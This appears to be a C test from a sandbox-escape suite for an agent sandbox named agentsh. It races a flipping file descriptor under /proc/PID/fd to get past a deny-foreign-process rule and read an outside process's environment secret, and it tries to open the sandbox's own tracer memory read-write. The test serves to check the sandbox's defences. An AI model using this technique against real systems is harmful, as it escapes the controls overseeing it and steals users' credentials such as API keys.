/*
 * Vectors 1, 3 and 9: esc_proc_fd_pipe_swap's name under /proc/PID/fd/N/,
 * aimed at processes OUTSIDE the tree. A child of ours holds an fd of the
 * directory /proc/VICTIM (the stand-in victim, whose environment holds the
 * fixture's secret as a user's shell holds API keys), and flips its fd 50
 * between a pipe and that fd, while we open /proc/CHILD/fd/50/environ.
 * Named directly, /proc/VICTIM/environ is refused (deny-foreign-process);
 * looked at while fd 50 is a pipe, the name is kept as written and the
 * kernel follows fd 50 as it is when it opens. Then the same for agentsh's
 * own /proc/TracerPid/mem, opened read-write (reported, not required:
 * natively there is no tracer).
 * expect: ptrace_file
 * expect-match: /proc/
 */
#include "esc.h"
#include <signal.h>

/* Opens /proc/<flipper>/fd/50/<entry> for up to 5 s while a child flips its
 * fd 50 between a pipe and dirfd; the fd, or -1. */
static int race_open(int dirfd, const char *entry, int flags, long *tries)
{
	int p[2], fd = -1;
	pid_t flipper;
	const char *name;

	if (pipe(p) < 0)
		esc_broken("pipe: %s", strerror(errno));
	flipper = fork();
	if (flipper < 0)
		esc_broken("fork: %s", strerror(errno));
	if (flipper == 0)
		for (;;) {
			dup2(p[0], 50);
			dup2(dirfd, 50);
		}
	name = esc_fmt("/proc/%d/fd/50/%s", (int)flipper, entry);
	for (double end = esc_now() + esc_race_seconds(); fd < 0 && esc_now() < end; ++*tries) {
		struct stat st;

		fd = open(name, flags);
		if (fd >= 0 && (fstat(fd, &st) < 0 || S_ISFIFO(st.st_mode))) {
			close(fd);
			fd = -1;
		}
	}
	kill(flipper, SIGKILL);
	esc_wait(flipper);
	close(p[0]);
	close(p[1]);
	return fd;
}

int main(void)
{
	char buf[65536];
	long tries = 0, ttries = 0;
	pid_t tracer = esc_tracer_pid();
	int dir = open(esc_fmt("/proc/%d", (int)esc_victim_pid()), O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	int fd, tdir;
	ssize_t n;

	if (dir < 0)
		esc_blocked("open /proc/VICTIM as a directory: %s", strerror(errno));
	if (tracer > 0 && (tdir = open(esc_fmt("/proc/%d", (int)tracer), O_RDONLY | O_DIRECTORY)) >= 0) {
		fd = race_open(tdir, "mem", O_RDWR, &ttries);
		printf("agentsh's /proc/%d/mem read-write: %s after %ld tries\n", (int)tracer,
		       fd >= 0 ? "OPENED" : "not opened", ttries);
		if (fd >= 0)
			close(fd);
		close(tdir);
	}
	fd = race_open(dir, "environ", O_RDONLY, &tries);
	if (fd < 0)
		esc_blocked("the victim's environ never opened in %ld tries", tries);
	n = read(fd, buf, sizeof(buf));
	if (n > 0 && memmem(buf, (size_t)n, esc_env("ESC_SECRET"), strlen(esc_env("ESC_SECRET"))))
		esc_success("read the outside victim's environment (the secret) after %ld tries", tries);
	esc_blocked("opened the victim's environ, but no secret in it");
}
